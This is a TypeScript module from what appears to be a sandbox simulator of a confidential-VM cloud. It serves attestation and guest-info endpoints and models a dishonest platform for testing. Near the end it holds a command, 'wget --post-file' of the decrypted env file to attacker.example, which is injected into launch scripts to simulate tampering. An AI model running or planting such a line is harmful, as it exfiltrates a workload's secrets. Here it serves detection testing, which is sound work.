/** Attestation, from the API and from a CVM's port 8090. */
import { X509Certificate } from "node:crypto";
import * as z from "zod";
import type { AppCompose } from "../app-compose.ts";
import { findLive } from "../find.ts";
import { makeRunnerQuote } from "../kms.ts";
import { lifeOf } from "../lifecycle.ts";
import type { CloudState, CvmState } from "../model.ts";
import { ok, type Reply } from "../reply.ts";
import type { ServiceWorld } from "../spawntee.ts";
import type { CloudStore } from "../store.ts";
import type { Authority } from "./authority.ts";
import { evidenceOf, type GuestEvidence } from "./guest.ts";
import type { Lie } from "./lies.ts";

export type AttestationWorld = {
  readonly store: CloudStore;
  readonly authority: Authority;
  /** Changed while the server runs. */
  readonly lies: Set<Lie>;
};

/** `GET /cvms/{id}/attestation`. Only a running CVM can attest. */
export function ofCvm(world: AttestationWorld, state: CloudState, id: string): unknown {
  const cvm = findLive(state, id);
  const evidence = gather(world, cvm);
  const common = { name: cvm.name, is_online: evidence !== undefined, is_public: true };
  const error = evidence ? null : "CVM is not running";
  return { ...common, error, ...shown(evidence), quote: runnersQuote(state, cvm) };
}

const KMS = {
  contract_address: "",
  chain_id: null,
  version: "v0.5.4",
  url: "https://kms.sandbox.invalid",
  gateway_app_id: null,
  gateway_app_url: "",
  kms_type: "phala",
};

/** `GET /apps/{id}/attestations` */
export function ofApp(world: AttestationWorld, state: CloudState, id: string): unknown {
  const cvm = findLive(state, id);
  const evidence = gather(world, cvm);
  const instance = {
    vm_uuid: cvm.vmUuid,
    name: cvm.name,
    instance_id: evidence?.instanceId ?? null,
    status: lifeOf(cvm, Date.now()).status,
    image_version: "dstack-sandbox",
    quote: evidence?.quote ?? null,
    error: null,
    ...shown(evidence),
  };
  return {
    app_id: cvm.appId,
    contract_address: "",
    kms_info: KMS,
    instances: [instance],
    kms_guest_agent_info: null,
    gateway_guest_agent_info: null,
    qemu_version: null,
  };
}

/** Exists only in the sandbox: a runner requests keys from a registry with it (see spawntee.ts). */
function runnersQuote(state: CloudState, cvm: CvmState): string | undefined {
  const { serving } = lifeOf(cvm, Date.now());
  return (
    serving &&
    makeRunnerQuote({ app_id: cvm.appId, compose_hash: serving.composeHash }, state.quoteKey)
  );
}

function gather({ authority, lies }: AttestationWorld, cvm: CvmState): GuestEvidence | undefined {
  const life = lifeOf(cvm, Date.now());
  const { serving } = life;
  if (!serving) return undefined;
  return evidenceOf({ cvm, life: { ...life, serving }, authority, lies, asked: "api" });
}

function shown(evidence: GuestEvidence | undefined): Record<string, unknown> {
  return {
    app_certificates: evidence ? certificatesOf(evidence) : null,
    tcb_info: evidence ? tcbInfoOf(evidence) : null,
    compose_file: evidence ? composeTextOf(evidence) : null,
  };
}

const tcbInfoOf = ({ registers, events, appCompose }: GuestEvidence): unknown => ({
  ...registers,
  rootfs_hash: null,
  event_log: events,
  app_compose: appCompose,
});

const composeTextOf = ({ appCompose }: GuestEvidence): unknown =>
  z.looseObject({ docker_compose_file: z.string() }).parse(JSON.parse(appCompose))
    .docker_compose_file;

const nameIn = (text: string): string | null => /CN=(.*)/.exec(text)?.[1] ?? null;

function certificatesOf({ certificates, quote }: GuestEvidence): unknown {
  const nobody = { organization: null, country: null };
  return certificates.split(/(?<=-----END CERTIFICATE-----\n)/).map((pem, position) => {
    const certificate = new X509Certificate(pem);
    return {
      subject: { common_name: nameIn(certificate.subject), ...nobody, state: null, locality: null },
      issuer: { common_name: nameIn(certificate.issuer), ...nobody },
      serial_number: certificate.serialNumber,
      not_before: new Date(certificate.validFrom).toISOString(),
      not_after: new Date(certificate.validTo).toISOString(),
      version: "v3",
      fingerprint: certificate.fingerprint256.replaceAll(":", "").toLowerCase(),
      signature_algorithm: "ecdsa-with-SHA256",
      sans: null,
      is_ca: certificate.ca,
      position_in_chain: position,
      quote: position === 0 ? quote : null,
    };
  });
}

/** A CVM's port 8090: `/prpc/Info` from dstack 0.5 on, `/prpc/Worker.Info` before. */
export function guestInfo(
  { authority, lies }: AttestationWorld,
  served: Pick<ServiceWorld, "cvm" | "life">,
  path: string,
): Reply {
  if (!/^\/prpc\/(?:Worker\.)?Info$/.test(path))
    return { status: 404, json: { error: "not found" } };
  const evidence = evidenceOf({ ...served, authority, lies, asked: "cvm" });
  return ok({
    app_id: served.cvm.appId,
    instance_id: evidence.instanceId,
    app_name: served.cvm.name,
    app_cert: evidence.certificates,
    tcb_info: JSON.stringify(tcbInfoOf(evidence)),
    device_id: "",
  });
}

const PLATFORM_SCRIPT =
  "#!/bin/sh\n# the platform's own: logs in to the image registry\ndocker login\n";
const STEALS = "wget --post-file /dstack/.host-shared/.decrypted-env http://attacker.example\n";

/** The app-compose that a lying platform makes of a request's. */
export function platformsCompose(
  { lies }: { readonly lies: ReadonlySet<Lie> },
  appCompose: AppCompose,
): AppCompose {
  return {
    ...appCompose,
    ...(lies.has("platform-script") && { pre_launch_script: PLATFORM_SCRIPT }),
    ...(lies.has("another-script") && { pre_launch_script: PLATFORM_SCRIPT + STEALS }),
    ...(lies.has("foreign-script") && { init_script: STEALS }),
  };
}
